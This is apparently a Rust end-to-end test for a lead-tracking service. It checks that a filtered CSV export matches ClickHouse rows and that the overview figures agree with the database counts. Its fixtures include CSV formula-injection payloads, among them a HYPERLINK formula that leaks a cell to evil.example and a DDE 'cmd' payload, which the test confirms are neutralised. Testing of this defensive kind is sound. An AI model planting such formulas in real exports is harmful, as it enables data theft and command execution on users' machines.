//! The overview and the CSV export on a real deployment (simulator → `hunter run all` → broker →
//! ClickHouse → API), with MX answers from a local DNS server so the companies-by-provider
//! figures are not all `unknown`, and USD rates so the pipeline has a value.
//!
//! - `GET /leads.csv?country=DE&sort=company` of 1,200 leads, 1,000 of them in DE: parsed by
//!   Python's `csv` module (an independent RFC 4180 reader), it holds exactly the filtered rows
//!   in ClickHouse's order, each cell as ClickHouse stores it; company names `=HYPERLINK(…)`,
//!   `+1`, `-2`, `@x` and a leading tab come back behind a `'`; quotes, commas and line breaks
//!   round-trip. The answer is streamed (chunked, no length), starts with a UTF-8 BOM, ends its
//!   records with CRLF and is an attachment.
//! - `GET /overview`: every figure equals ClickHouse's own count (ten incoming `New` referrals
//!   expire within 48 hours, four of them on Hunter's estimate), and the `GET /leads` filter of
//!   every figure lists exactly the leads it counts.
//! - The page in headless Chromium (`tests/browser/overview.mjs`): the overview shows these
//!   figures, a click on one filters the table to its leads, and Export downloads the filtered
//!   view as CSV.

use std::collections::HashMap;
use std::process::Command;

use hunter_e2e::{Deployment, MxServer, generated_referrals, wait_for};
use reqwest::StatusCode;
use serde_json::json;

const MATCHING: usize = 1_000;
const OTHERS: usize = 200;
/// Companies (web sites `www.hunter-companyN.com`, a suffix the Public Suffix List knows; their MX
/// answers come from the local DNS server only), several leads each.
const COMPANIES: usize = 60;

/// Company names a spreadsheet would run as formulas, and ones that need quoting.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+1",
    "-2",
    "@x",
    "\t=cmd|' /C calc'!A0",
    "Comma, \"Quoted\" Ltd",
    "Two\nLines\r\nInc",
];

/// What the export must make of a stored cell (docs/overview-and-export.md).
fn neutralised(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// The CSV parsed by Python's csv module: the header and the records.
fn parse_with_python(csv: &[u8]) -> anyhow::Result<Vec<Vec<String>>> {
    let dir = tempfile::tempdir()?;
    let file = dir.path().join("export.csv");
    std::fs::write(&file, csv)?;
    let output = Command::new("python3")
        .args([
            "-c",
            "import csv, json, sys\n\
             with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n\
             \x20   rows = list(csv.reader(f, strict=True))\n\
             json.dump(rows, sys.stdout)",
        ])
        .arg(&file)
        .output()?;
    anyhow::ensure!(
        output.status.success(),
        "python's csv module refused the export: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    Ok(serde_json::from_slice(&output.stdout)?)
}

async fn count(deployment: &Deployment, sql: &str) -> anyhow::Result<u64> {
    let rows = deployment
        .clickhouse
        .rows(&format!("SELECT toString(({sql})) AS n"))
        .await?;
    Ok(rows[0]["n"].as_str().unwrap_or("0").parse()?)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_overview_counts_what_clickhouse_counts_and_the_export_has_the_filtered_rows()
-> anyhow::Result<()> {
    hunter_e2e::browser::browser_dir()?;
    // MX answers: companies 0-19 on Microsoft 365, 20-29 on Google, 30-39 elsewhere, the rest
    // without MX (unknown).
    let mut table = HashMap::new();
    for n in 0..40 {
        let exchange = match n {
            0..20 => format!("hunter-company{n}-com.mail.protection.outlook.com."),
            20..30 => "aspmx.l.google.com.".to_owned(),
            _ => format!("mx.hunter-company{n}.com."),
        };
        table.insert(format!("hunter-company{n}.com"), vec![exchange]);
    }
    let dns = MxServer::start(table).await?;

    let mut referrals = generated_referrals(MATCHING + OTHERS, 41)?;
    let mut hostile_ids = Vec::new();
    for (index, referral) in referrals.iter_mut().enumerate() {
        let country = if index < MATCHING { "DE" } else { "FR" };
        referral["customerProfile"]["address"]["country"] = json!(country);
        referral["customerProfile"]["website"] = json!(format!(
            "https://www.hunter-company{}.com",
            index % COMPANIES
        ));
        if let Some(name) = HOSTILE.get(index) {
            referral["customerProfile"]["name"] = json!(name);
            hostile_ids.push((referral["id"].as_str().unwrap().to_owned(), *name));
        }
    }
    // A hostile referral name too (another column).
    referrals[10]["name"] = json!("=1+1");
    // Incoming referrals waiting for an answer that expire within the overview's 48 hours: six
    // with Partner Center's date, four on Hunter's estimate (created 13 days ago + 14 days).
    let now = time::OffsetDateTime::now_utc();
    let rfc3339 = |instant: time::OffsetDateTime| {
        instant
            .format(&time::format_description::well_known::Rfc3339)
            .unwrap()
    };
    let expiring_ids: Vec<usize> = (100..referrals.len())
        .filter(|&i| referrals[i]["status"] == "New" && referrals[i]["direction"] == "Incoming")
        .take(10)
        .collect();
    assert_eq!(
        expiring_ids.len(),
        10,
        "the generated referrals have incoming New ones"
    );
    for (n, &index) in expiring_ids.iter().enumerate() {
        let referral = &mut referrals[index];
        if n < 6 {
            referral["expirationDateTime"] = json!(rfc3339(now + time::Duration::hours(12)));
        } else {
            referral["expirationDateTime"] = json!(null);
            referral["createdDateTime"] = json!(rfc3339(now - time::Duration::days(13)));
            referral["updatedDateTime"] = json!(rfc3339(now - time::Duration::days(13)));
        }
    }
    let mut deployment = Deployment::new(&referrals)?;
    deployment
        .env
        .insert("HUNTER_ENRICH_DNS_SERVER".into(), dns.address.to_string());
    deployment
        .env
        .insert("HUNTER_ENRICH_DNS_TIMEOUT_MS".into(), "2000".into());
    deployment.env.insert(
        "HUNTER_ENRICH_USD_RATES".into(),
        "EUR=1.08,GBP=1.27,JPY=0.0067".into(),
    );
    // Every answer fresh, so it can be compared with ClickHouse read just before.
    deployment
        .env
        .insert("HUNTER_API_CACHE_MS".into(), "0".into());
    deployment
        .run_all_until_leads((MATCHING + OTHERS) as u64)
        .await?;
    // The startup sync's end is recorded after its leads: wait for it, for the last-sync figure.
    wait_for(
        "the startup sync recorded as succeeded",
        std::time::Duration::from_secs(60),
        || async {
            let n = count(
                &deployment,
                "SELECT count() FROM sync_runs FINAL WHERE status = 'succeeded'",
            )
            .await?;
            Ok((n > 0).then_some(()))
        },
    )
    .await?;
    let client = reqwest::Client::new();

    // --- The export.
    let response = client
        .get(format!(
            "{}/api/v1/leads.csv?country=DE&sort=company",
            deployment.api
        ))
        .bearer_auth(&deployment.api_token)
        .send()
        .await?;
    assert_eq!(response.status(), StatusCode::OK);
    let headers = response.headers().clone();
    assert_eq!(
        headers["content-type"],
        "text/csv; charset=utf-8; header=present"
    );
    let disposition = headers["content-disposition"].to_str()?;
    assert!(
        disposition.starts_with("attachment; filename=\"hunter-leads-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    assert!(
        headers.get("content-length").is_none()
            && headers
                .get("transfer-encoding")
                .is_some_and(|v| v == "chunked"),
        "streamed, not one buffer: {headers:?}"
    );
    let body = response.bytes().await?;
    assert!(
        body.starts_with(b"\xef\xbb\xbflead_id,referral_id,"),
        "BOM, then the header"
    );
    assert!(body.ends_with(b"\r\n"));
    let header_end = body.windows(2).position(|w| w == b"\r\n").unwrap();
    assert!(
        !body[..header_end].contains(&b'\n'),
        "the header ends with CRLF"
    );

    let rows = parse_with_python(&body)?;
    let header = &rows[0];
    let column = |name: &str| header.iter().position(|c| c == name).unwrap();
    let records = &rows[1..];
    assert_eq!(records.len(), MATCHING, "exactly the filtered leads");
    assert!(records.iter().all(|r| r.len() == header.len()));

    // The oracle: ClickHouse's rows for the same filter, in the same order.
    let stored = deployment
        .clickhouse
        .rows(
            "SELECT lead_id, ifNull(company_name, '') AS company, ifNull(name, '') AS name, \
             ifNull(company_domain, '') AS domain, email_provider, ifNull(status, '') AS status, \
             ifNull(toString(deal_value_usd), '') AS usd, toString(score) AS score \
             FROM leads FINAL WHERE country = 'DE' ORDER BY ifNull(company_name, '') ASC, lead_id ASC",
        )
        .await?;
    assert_eq!(stored.len(), MATCHING);
    for (record, row) in records.iter().zip(&stored) {
        let text = |key: &str| row[key].as_str().unwrap_or_default().to_owned();
        assert_eq!(record[column("lead_id")], text("lead_id"), "order");
        assert_eq!(
            record[column("company_name")],
            neutralised(&text("company"))
        );
        assert_eq!(record[column("name")], neutralised(&text("name")));
        assert_eq!(record[column("company_domain")], text("domain"));
        assert_eq!(record[column("email_provider")], text("email_provider"));
        assert_eq!(record[column("status")], text("status"));
        assert_eq!(record[column("country")], "DE");
        assert_eq!(record[column("score")], text("score"));
        let usd = text("usd");
        if usd.is_empty() {
            assert_eq!(record[column("deal_value_usd")], "");
        } else {
            let exported: f64 = record[column("deal_value_usd")].parse()?;
            assert!((exported - usd.parse::<f64>()?).abs() < 0.005, "{usd}");
        }
    }
    // The hostile cells, spelled out.
    let company_of = |id: &str| {
        records
            .iter()
            .find(|r| r[column("lead_id")] == id)
            .map(|r| r[column("company_name")].clone())
            .unwrap()
    };
    for (id, name) in &hostile_ids {
        let exported = company_of(id);
        match name.chars().next().unwrap() {
            '=' | '+' | '-' | '@' | '\t' => assert_eq!(exported, format!("'{name}")),
            _ => assert_eq!(exported, *name, "quotes, commas and line breaks round-trip"),
        }
    }
    assert_eq!(company_of(&hostile_ids[0].0).chars().next(), Some('\''));
    let referral_name = records
        .iter()
        .find(|r| r[column("lead_id")] == referrals[10]["id"].as_str().unwrap())
        .unwrap();
    assert_eq!(referral_name[column("name")], "'=1+1");

    // A second filter through the same parser; bad values and paging parameters are refused.
    let response = client
        .get(format!(
            "{}/api/v1/leads.csv?country=DE&provider=microsoft365",
            deployment.api
        ))
        .bearer_auth(&deployment.api_token)
        .send()
        .await?;
    assert_eq!(response.status(), StatusCode::OK);
    let m365_de = response.bytes().await?;
    let expected = count(
        &deployment,
        "SELECT count() FROM leads FINAL WHERE country = 'DE' AND email_provider = 'microsoft365'",
    )
    .await?;
    assert!(expected > 0);
    assert_eq!(parse_with_python(&m365_de)?.len() as u64, expected + 1);
    for (query, parameter) in [
        ("has_domain=maybe", "has_domain"),
        ("limit=10", "limit"),
        ("cursor=abc", "cursor"),
        ("status=Open", "status"),
    ] {
        let (status, body) = deployment
            .get(&format!("/api/v1/leads.csv?{query}"))
            .await?;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}");
        assert_eq!(
            body["error"]["parameter"],
            json!(parameter),
            "{query}: {body}"
        );
    }
    let (status, body) = deployment.get("/api/v1/leads?has_domain=1").await?;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(body["error"]["code"], "invalid_parameter");

    // --- The overview against ClickHouse's own counts.
    let (status, overview) = deployment.get("/api/v1/overview").await?;
    assert_eq!(status, StatusCode::OK, "{overview}");
    assert_eq!(overview["total"].as_u64(), Some((MATCHING + OTHERS) as u64));
    for figure in overview["by_status"].as_array().unwrap() {
        let status = figure["status"].as_str().unwrap();
        let n = count(
            &deployment,
            &format!("SELECT count() FROM leads FINAL WHERE status = '{status}'"),
        )
        .await?;
        assert_eq!(figure["leads"].as_u64(), Some(n), "{status}");
        let usd = count(
            &deployment,
            &format!(
                "SELECT toInt64(sum(ifNull(toInt64(deal_value_usd * 100), 0))) FROM leads FINAL WHERE status = '{status}'"
            ),
        )
        .await?;
        assert!((figure["value_usd"].as_f64().unwrap() * 100.0 - usd as f64).abs() < 0.5);
    }
    let statuses: u64 = overview["by_status"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["leads"].as_u64().unwrap())
        .sum();
    assert_eq!(statuses, (MATCHING + OTHERS) as u64);
    let waiting = count(
        &deployment,
        "SELECT count() FROM leads FINAL WHERE status = 'New' AND direction = 'Incoming'",
    )
    .await?;
    assert!(waiting > 0);
    assert_eq!(
        overview["incoming_waiting"]["leads"].as_u64(),
        Some(waiting)
    );
    let expiring = &overview["expiring_soon"];
    assert_eq!(expiring["within_hours"], json!(48));
    let expiring_now = count(
        &deployment,
        &format!(
            "SELECT count() FROM leads FINAL WHERE status = 'New' AND direction = 'Incoming' \
             AND expires_at IS NOT NULL AND toUInt32(expires_at) BETWEEN {} AND {}",
            now.unix_timestamp(),
            now.unix_timestamp() + 48 * 3600
        ),
    )
    .await?;
    assert_eq!(
        expiring_now, 10,
        "the test's expiring referrals, as ClickHouse has them"
    );
    assert_eq!(expiring["leads"].as_u64(), Some(expiring_now));
    assert_eq!(expiring["estimated"].as_u64(), Some(4));
    let open = count(
        &deployment,
        "SELECT count() FROM leads FINAL WHERE status IN ('New', 'Active')",
    )
    .await?;
    let open_usd = count(
        &deployment,
        "SELECT toInt64(sum(toInt64(deal_value_usd * 100))) FROM leads FINAL WHERE status IN ('New', 'Active') AND deal_value_usd IS NOT NULL",
    )
    .await?;
    let open_without = count(
        &deployment,
        "SELECT count() FROM leads FINAL WHERE status IN ('New', 'Active') AND deal_value_usd IS NULL",
    )
    .await?;
    let pipeline = &overview["pipeline"];
    assert!(open_usd > 0, "the USD rates gave values");
    assert_eq!(pipeline["leads"].as_u64(), Some(open));
    assert_eq!(pipeline["leads_without_usd"].as_u64(), Some(open_without));
    assert!((pipeline["value_usd"].as_f64().unwrap() * 100.0 - open_usd as f64).abs() < 0.5);
    let providers = overview["providers"].as_array().unwrap();
    let companies = |provider: &str| {
        providers
            .iter()
            .find(|p| p["provider"] == provider)
            .map(|p| p["companies"].as_u64().unwrap())
    };
    // Companies 0-19 (20 domains) on Microsoft 365, as the DNS server says.
    assert_eq!(companies("microsoft365"), Some(20));
    assert_eq!(companies("google_workspace"), Some(10));
    assert_eq!(companies("other"), Some(10));
    assert_eq!(companies("unknown"), Some(20));
    for figure in providers {
        let provider = figure["provider"].as_str().unwrap();
        let n = count(
            &deployment,
            &format!(
                "SELECT uniqExact(lower(company_domain)) FROM leads FINAL WHERE email_provider = '{provider}' AND company_domain != ''"
            ),
        )
        .await?;
        assert_eq!(figure["companies"].as_u64(), Some(n), "{provider}");
    }
    let last_success = count(
        &deployment,
        "SELECT toUInt32(max(finished_at)) FROM sync_runs FINAL WHERE status = 'succeeded'",
    )
    .await?;
    let shown = time::OffsetDateTime::parse(
        overview["last_sync"]["last_success_at"].as_str().unwrap(),
        &time::format_description::well_known::Rfc3339,
    )?;
    assert_eq!(shown.unix_timestamp() as u64, last_success);
    assert!(overview["last_sync"]["last_run"]["run_id"].is_string());

    // Each figure's filter lists exactly the leads it counts.
    let mut figures: Vec<(String, u64)> = vec![
        (
            overview["incoming_waiting"]["filter"]
                .as_str()
                .unwrap()
                .into(),
            waiting,
        ),
        (pipeline["filter"].as_str().unwrap().into(), open),
        (expiring["filter"].as_str().unwrap().into(), expiring_now),
    ];
    for figure in overview["by_status"].as_array().unwrap() {
        figures.push((
            figure["filter"].as_str().unwrap().into(),
            figure["leads"].as_u64().unwrap(),
        ));
    }
    for figure in providers {
        figures.push((
            figure["filter"].as_str().unwrap().into(),
            figure["leads_with_domain"].as_u64().unwrap(),
        ));
    }
    for (filter, leads) in &figures {
        let (status, page) = deployment
            .get(&format!("/api/v1/leads?{filter}&limit=1"))
            .await?;
        assert_eq!(status, StatusCode::OK, "{filter}: {page}");
        assert_eq!(page["total"].as_u64(), Some(*leads), "{filter}");
    }

    // --- The page.
    let m365 = providers
        .iter()
        .find(|p| p["provider"] == "microsoft365")
        .unwrap();
    let expect = json!({
        "total": MATCHING + OTHERS,
        "waiting": waiting,
        "expiring": expiring_now,
        "m365_companies": m365["companies"],
        "m365_leads": m365["leads_with_domain"],
        "country": "DE",
        "country_m365_leads": expected,
    });
    hunter_e2e::browser::run_script(
        "overview.mjs",
        &[
            ("HUNTER_WEB_URL", deployment.api.clone()),
            ("HUNTER_WEB_TOKEN", deployment.api_token.clone()),
            ("HUNTER_WEB_EXPECT", expect.to_string()),
        ],
        "overview page checks passed",
        || deployment.logs(),
    )
    .await?;
    deployment.teardown().await;
    Ok(())
}
